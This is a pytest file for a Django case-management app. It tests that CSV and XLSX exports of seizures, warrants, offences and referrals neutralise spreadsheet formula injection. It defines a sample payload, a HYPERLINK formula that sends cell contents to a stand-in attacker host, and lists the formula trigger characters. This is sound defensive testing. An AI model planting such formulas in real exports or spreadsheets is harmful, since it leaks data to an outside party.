"""Exports are safe from CSV/formula injection: text a spreadsheet would run as a formula
(starting = + - @, a tab or a carriage return) reaches CSV and XLSX downloads as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from accounts.models import Agency
from core.exports import neutralise_formula
from tests.factories import AgencyFactory
from tests.factories.offences import OffenceFactory
from tests.factories.partners import make_referral
from tests.factories.seizures import SeizureFactory, WarrantFactory, item

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def csv_rows(response):
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def xlsx_cells(response):
    assert response.status_code == 200, response.status_code
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_csv_safe(rows, expected_text):
    """The dangerous text is in the file, but every cell holding it starts with an apostrophe."""
    cells = [cell for row in rows for cell in row if expected_text in cell]
    assert cells, f"{expected_text!r} is not in the export at all"
    for cell in cells:
        assert cell.startswith("'"), cell
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def assert_xlsx_safe(cells, expected_text):
    """openpyxl: a formula cell has data_type 'f' (or a value starting '='); text is 's'."""
    holding = [cell for cell in cells if isinstance(cell.value, str) and expected_text in cell.value]
    assert holding, f"{expected_text!r} is not in the workbook at all"
    for cell in holding:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type, cell.value)
        assert cell.value.startswith("'"), cell.value
    for cell in cells:
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith("="), (cell.coordinate, cell.value)


def export(client, path, file_format, query=""):
    separator = "&" if "?" in path else "?"
    return client.get(f"{path}{separator}{query}_export={file_format}")


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(trigger):
    assert neutralise_formula(f"{trigger}1+1") == f"'{trigger}1+1"
    assert neutralise_formula("Plain text") == "Plain text"
    assert neutralise_formula(42) == 42


def test_seizure_place_and_reference_export_as_text(analyst_client, analyst):
    SeizureFactory(
        reference="=HYPERLINK(1)",
        place=FORMULA,
        notes=FORMULA,
        items=[item("cocaine", 2, "g")],
        user=analyst,
    )
    assert_csv_safe(csv_rows(export(analyst_client, "/seizures/", "csv")), "HYPERLINK(")
    cells = xlsx_cells(export(analyst_client, "/seizures/", "xlsx"))
    assert_xlsx_safe(cells, "=HYPERLINK(")
    assert {cell.value for cell in cells} >= {"'=HYPERLINK(1)", "'" + FORMULA}


def test_seizure_notes_export_as_text_in_the_import_format(analyst_client, analyst):
    """The import-format export carries the notes too (the list table does not)."""
    SeizureFactory(place="Car park", notes=FORMULA, items=[item("cocaine", 2, "g")], user=analyst)
    response = analyst_client.get("/imports/new/seizures/export.csv")
    assert_csv_safe(csv_rows(response), "HYPERLINK(")
    assert_xlsx_safe(xlsx_cells(analyst_client.get("/imports/new/seizures/export.xlsx")), "=HYPERLINK(")


def test_warrant_reference_exports_as_text(analyst_client, analyst):
    WarrantFactory(reference="@SUM(1+1)", notes=FORMULA, user=analyst)
    assert_csv_safe(csv_rows(export(analyst_client, "/warrants/", "csv")), "@SUM(1+1)")
    assert_xlsx_safe(xlsx_cells(export(analyst_client, "/warrants/", "xlsx")), "@SUM(1+1)")


def test_offence_crime_reference_exports_as_text(analyst_client):
    OffenceFactory(crime_reference="=HYPERLINK(2)")
    assert_csv_safe(csv_rows(export(analyst_client, "/offences/", "csv")), "=HYPERLINK(2)")
    assert_xlsx_safe(xlsx_cells(export(analyst_client, "/offences/", "xlsx")), "=HYPERLINK(2)")


def test_referral_text_exports_as_text(client, partner_a, agency_a):
    """A referral's free text (the reason) is never exported; the agencies' names are, so an
    agency named like a formula is the way such text reaches a referral export."""
    hostile_agency = AgencyFactory(name="=HYPERLINK(3)", kind=Agency.Kind.TREATMENT)
    referral = make_referral(by=partner_a, to=hostile_agency, notes=FORMULA)
    client.force_login(partner_a)

    rows = csv_rows(export(client, "/referrals/", "csv"))
    assert any(referral.reference in row for row in rows)
    assert_csv_safe(rows, "=HYPERLINK(3)")
    assert not any("attacker.example" in cell for row in rows for cell in row)

    cells = xlsx_cells(export(client, "/referrals/", "xlsx"))
    assert_xlsx_safe(cells, "=HYPERLINK(3)")
    assert not any(isinstance(cell.value, str) and "attacker.example" in cell.value for cell in cells)


def test_referral_export_for_analysts_is_safe_too(analyst_client, partner_a):
    hostile_agency = AgencyFactory(name="+HYPERLINK(4)", kind=Agency.Kind.TREATMENT)
    make_referral(by=partner_a, to=hostile_agency, notes=FORMULA)
    assert_csv_safe(csv_rows(export(analyst_client, "/referrals/", "csv")), "+HYPERLINK(4)")
    assert_xlsx_safe(xlsx_cells(export(analyst_client, "/referrals/", "xlsx")), "+HYPERLINK(4)")
